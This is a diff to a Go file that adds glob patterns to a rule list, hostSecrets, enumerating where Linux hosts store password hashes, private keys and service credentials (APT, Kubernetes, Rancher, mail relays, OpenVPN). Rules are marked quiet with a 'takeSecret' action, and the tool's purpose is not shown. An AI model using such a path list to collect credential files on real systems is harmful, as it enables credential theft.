@@ -55,6 +55,7 @@ func hostSecrets() []definition {
 		{rule: "password hashes", patterns: []string{"/etc/{shadow,shadow-,gshadow,gshadow-,master.passwd,spwd.db}", "/etc/security/opasswd", "/var/lib/samba/private/*"}, quiet: true, take: takeSecret},
 		{rule: "keys and passwords of services", patterns: []string{
 			"/etc/ssl/private/**", "/etc/pki/tls/private/**", "/etc/krb5.keytab", "/etc/wireguard/**", "/etc/ppp/*-secrets", "/etc/ipsec.secrets", "/etc/{ipsec.d,swanctl}/{private,rsa,ecdsa,pkcs8}/*",
+			"/etc/{apt/auth.conf,apt/auth.conf.d/*,kubernetes/*.conf,rancher/*/*.yaml,msmtprc,fetchmailrc,ssmtp/ssmtp.conf}", "/etc/openvpn/**/*{auth,pass}*",
 			"/etc/NetworkManager/system-connections/*", "/etc/wpa_supplicant/*.conf", "/etc/{postfix/sasl_passwd*,exim4/passwd.client,mysql/debian.cnf,rsyncd.secrets,ldap.secret,cifs-credentials}",
 		}, quiet: true, take: takeSecret},
 	}
